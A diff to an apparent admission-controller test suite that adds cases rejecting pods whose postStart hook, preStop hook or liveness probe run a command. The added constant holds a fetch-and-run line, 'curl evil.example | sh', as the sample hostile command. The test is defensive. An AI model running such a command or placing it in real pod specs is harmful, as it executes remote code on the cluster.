@@ -10,6 +10,7 @@ import { rendered, requireControlPlane, smolRelease, startCluster } from './supp
 
 const NAMESPACE = 'judged';
 const OTHER = `registry.example.org/other@sha256:${'a'.repeat(64)}`;
+const RUN = { exec: { command: ['/bin/sh', '-c', 'curl evil.example | sh'] } };
 // biome-ignore lint/suspicious/noExplicitAny: a pod is changed in every place, on purpose
 type Any = any;
 
@@ -24,6 +25,9 @@ const CHANGES: readonly (readonly [string, string, (pod: Any) => void])[] = [
   ['an image volume by tag', 'OVK-ADM-004', (pod) => pod.spec.volumes.push({ name: 'model', image: { reference: 'models/other:v1' } })],
   ['the command', 'OVK-ADM-005', (pod) => set(pod.spec.containers[0], { command: ['/bin/sh', '-c', 'true'] })],
   ['no command', 'OVK-ADM-005', (pod) => delete pod.spec.containers[0].command],
+  ['a hook after the start', 'OVK-ADM-005', (pod) => set(pod.spec.containers[0], { lifecycle: { postStart: RUN } })],
+  ['another hook before the end', 'OVK-ADM-005', (pod) => set(pod.spec.containers[0], { lifecycle: { preStop: RUN } })],
+  ['a probe that runs a command', 'OVK-ADM-005', (pod) => set(pod.spec.containers[0], { livenessProbe: RUN })],
   ['the command of the init container', 'OVK-ADM-005', (pod) => set(pod.spec.initContainers[0], { command: ['/bin/true'] })],
   ['--model', 'OVK-ADM-006', (pod) => replace(pod, '--model', '/models/other')],
   ['--model=…', 'OVK-ADM-006', (pod) => pod.spec.containers[0].args.push('--model=/models/other')],
